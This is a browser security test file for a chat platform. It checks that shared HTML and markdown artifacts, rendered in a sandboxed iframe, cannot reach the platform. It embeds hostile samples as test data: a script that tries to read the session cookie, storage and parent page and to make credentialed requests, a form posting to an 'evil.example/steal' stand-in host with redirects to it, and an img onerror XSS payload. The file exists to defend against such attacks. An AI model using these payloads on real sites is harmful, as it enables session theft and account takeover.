import { afterAll, beforeAll, expect, test } from 'bun:test'
import type { Browser, Frame, Page } from 'playwright-core'
import { addSessionCookie, HAS_CHROMIUM, launchChromium, untilEqual, warnWithoutChromium, watchContext, type Watched } from '../helpers/browser.ts'
import { until } from '../helpers/until.ts'
import { startChatPlatform, type ChatPlatform } from '../helpers/web-chat.ts'

// A hostile HTML artifact, opened in Chromium by someone signed in to the console on the same address: its script
// runs, and reports into its own page what it could reach of the platform. It must reach nothing.

warnWithoutChromium()

let browser: Browser
let p: ChatPlatform

beforeAll(async () => {
  if (!HAS_CHROMIUM) return
  ;[browser, p] = await Promise.all([launchChromium(), startChatPlatform()])
}, 30_000)

afterAll(async () => {
  await browser?.close()
  await p?.close()
})

/**
 * Tries what a hostile page would: the cookie, storage, the parent page, and requests with credentials to a console
 * page and the API; writes what it got into #report as JSON.
 */
const HOSTILE = `<!DOCTYPE html><html><head><title>Totally harmless</title></head><body>
<p>Loading your report…</p><pre id="report">pending</pre>
<script>
(async () => {
  const got = {}
  const attempt = async (name, read) => {
    try { got[name] = String(await read()) } catch (error) { got[name] = 'threw ' + (error && error.name) }
  }
  await attempt('origin', () => self.origin)
  await attempt('cookie', () => document.cookie)
  await attempt('storage', () => { localStorage.setItem('stolen', '1'); return localStorage.getItem('stolen') })
  await attempt('parent', () => parent.document.cookie)
  await attempt('parentPage', () => parent.document.body.innerHTML.slice(0, 200))
  await attempt('consolePage', async () => { const r = await fetch('/me', { credentials: 'include' }); return r.status + ' ' + (await r.text()).slice(0, 300) })
  await attempt('api', async () => { const r = await fetch('__API__/api/me', { credentials: 'include' }); return r.status + ' ' + (await r.text()).slice(0, 300) })
  await attempt('xhr', () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.withCredentials = true; x.open('GET', '/me'); x.onload = () => resolve(x.status + ' ' + x.responseText.slice(0, 300)); x.onerror = () => reject(new Error('blocked')); x.send() }))
  document.getElementById('report').textContent = JSON.stringify(got)
})()
</script></body></html>`

interface Report {
  origin: string
  cookie: string
  storage: string
  parent: string
  parentPage: string
  consolePage: string
  api: string
  xhr: string
}

async function readReport(frame: Frame | Page): Promise<Report> {
  await untilEqual(async () => (await frame.textContent('#report')) !== 'pending', true, 'the hostile script to report', 10_000)
  return JSON.parse((await frame.textContent('#report'))!)
}

/** What nothing the artifact got may contain: the session token, the person's name, a console page. */
function expectNothingOfThePlatform(report: Report, secrets: string[]): void {
  const everything = JSON.stringify(report)
  for (const secret of secrets) expect(everything).not.toContain(secret)
  expect(report.origin).toBe('null')
  expect(report.cookie).toStartWith('threw SecurityError')
  expect(report.storage).toStartWith('threw SecurityError')
  for (const reached of [report.consolePage, report.api, report.xhr]) expect(reached).toStartWith('threw')
}

test.skipIf(!HAS_CHROMIUM)('a hostile HTML artifact cannot read the platform’s cookies, storage or pages framed, and is not run opened on its own', async () => {
  const person = await p.person()
  const sessionToken = person.cookie.split('=')[1]!
  const created = await p.call('POST', '/api/artifacts', { as: person, json: { title: 'Quarterly report', kind: 'html', content: HOSTILE.replace('__API__', p.services.config.baseUrl) } })
  expect(created.status).toBe(201)
  const link = (await p.call('POST', `/api/artifacts/${created.body.id}/share`, { as: person })).body.url as string
  expect(link).toStartWith(`${p.adminUrl}/share/artifacts/`)

  const watched: Watched = { violations: [], foreign: [], dialogs: [] }
  const context = await browser.newContext()
  await watchContext(context, [p.adminUrl, p.services.config.baseUrl], watched)
  // The session cookie as a script of the console's own origin could read it (not HttpOnly here), to make the test
  // as hard as it gets: what the artifact cannot read even then, it cannot read at all.
  await addSessionCookie(context, p.adminUrl, person.cookie)
  try {
    const page = await context.newPage()
    const response = await page.goto(link)
    expect(response?.status()).toBe(200)
    expect(await page.textContent('h1')).toBe('Quarterly report')
    expect(await page.getAttribute('iframe', 'sandbox')).toBe('allow-scripts')

    // The share page itself is the console's origin: there the cookie and the person's pages are in reach, so the
    // checks below would see a leak if the artifact shared that origin.
    expect(await page.evaluate(() => document.cookie)).toContain(sessionToken)
    expect(await page.evaluate(async () => (await fetch('/me', { credentials: 'include' })).status)).toBe(200)
    expect(await page.evaluate(async () => (await (await fetch('/me', { credentials: 'include' })).text()).includes('Your account'))).toBe(true)

    const frame = await until(() => page.frames().find((f) => f.url().includes('/content?token=')), { what: 'the artifact’s frame' })
    const framed = await readReport(frame)
    expectNothingOfThePlatform(framed, [sessionToken, person.username])
    expect(framed.parent).toStartWith('threw SecurityError')
    expect(framed.parentPage).toStartWith('threw SecurityError')
    // Its requests were stopped by the policy before they left, not merely unreadable.
    expect(watched.violations.some((v) => v.directive === 'connect-src')).toBe(true)

    // Opened on its own, at the console's address, it does not run at all: the browser downloads it.
    const alone = await context.newPage()
    const download = alone.waitForEvent('download')
    await alone.goto(frame.url()).catch(() => {})
    expect((await download).suggestedFilename()).toEndWith('.html')
    expect(alone.url()).not.toContain('/content?token=')
    expect(watched.dialogs).toEqual([])
  } finally {
    await context.close()
  }
})

test.skipIf(!HAS_CHROMIUM)('a markdown artifact renders in its frame without running anything; a revoked link shows why', async () => {
  const person = await p.person()
  const markdown = '# Plan\n\n- ship\n- rest\n\n<img src=x onerror="document.title=\'pwned\'">'
  const created = await p.call('POST', '/api/artifacts', { as: person, json: { title: 'Plan', kind: 'markdown', content: markdown } })
  const link = (await p.call('POST', `/api/artifacts/${created.body.id}/share`, { as: person })).body.url as string
  const context = await browser.newContext()
  const watched: Watched = { violations: [], foreign: [], dialogs: [] }
  await watchContext(context, [p.adminUrl], watched)
  try {
    const page = await context.newPage()
    await page.goto(link)
    const frame = await until(() => page.frames().find((f) => f.url().includes('/content?token=')), { what: 'the artifact’s frame' })
    await frame.waitForSelector('h1')
    expect(await frame.textContent('h1')).toBe('Plan')
    expect(await frame.locator('li').allTextContents()).toEqual(['ship', 'rest'])
    // The raw HTML is shown as text, never made an element.
    expect(await frame.locator('img').count()).toBe(0)
    expect(await frame.textContent('body')).toContain('<img src=x onerror=')
    expect(await frame.title()).toBe('Plan')
    expect(watched.violations).toEqual([])

    await p.call('POST', `/api/artifacts/${created.body.id}/revoke`, { as: person })
    const revoked = await page.goto(link)
    expect(revoked?.status()).toBe(410)
    expect(await page.textContent('h1')).toBe('No longer available')
    expect(await page.textContent('[role=alert]')).toBe('Its owner revoked this artifact.')
  } finally {
    await context.close()
  }
})

test.skipIf(!HAS_CHROMIUM)('a hostile HTML artifact cannot navigate the page that shows it, open windows or submit forms', async () => {
  const person = await p.person()
  const escape = `<!DOCTYPE html><html><body><p id="state">trying</p>
<form id="f" action="https://evil.example/steal" method="post" target="_top"><input name="x" value="1"></form>
<a id="a" href="https://evil.example/clicked" target="_top">link</a>
<script>
const tried = []
const attempt = (name, act) => { try { act(); tried.push(name + ': no error') } catch (error) { tried.push(name + ': ' + error.name) } }
attempt('top', () => { top.location = 'https://evil.example/top' })
attempt('parent', () => { parent.location.href = 'https://evil.example/parent' })
attempt('open', () => { if (!window.open('https://evil.example/popup')) throw { name: 'blocked' } })
attempt('form', () => document.getElementById('f').submit())
attempt('click', () => document.getElementById('a').click())
document.getElementById('state').textContent = tried.join('; ')
</script></body></html>`
  const created = await p.call('POST', '/api/artifacts', { as: person, json: { title: 'Escape', kind: 'html', content: escape } })
  const link = (await p.call('POST', `/api/artifacts/${created.body.id}/share`, { as: person })).body.url as string
  const watched: Watched = { violations: [], foreign: [], dialogs: [] }
  const context = await browser.newContext()
  await watchContext(context, [p.adminUrl], watched)
  try {
    const page = await context.newPage()
    // Any page opened from here on is the artifact's doing.
    const popups: string[] = []
    context.on('page', (opened) => popups.push(opened.url()))
    await page.goto(link)
    const frame = await until(() => page.frames().find((f) => f.url().includes('/content?token=')), { what: 'the artifact’s frame' })
    await untilEqual(async () => (await frame.textContent('#state'))?.startsWith('trying') === false, true, 'the artifact’s attempts')
    // Give a navigation the script started time to land, had it been allowed.
    await page.waitForTimeout(500)
    expect(page.url()).toBe(link)
    expect(await page.textContent('h1')).toBe('Escape')
    expect(popups).toEqual([])
    expect(await frame.textContent('#state')).toContain('open: blocked')
    expect(watched.foreign.filter((url) => url.includes('evil.example'))).toEqual([])
  } finally {
    await context.close()
  }
})
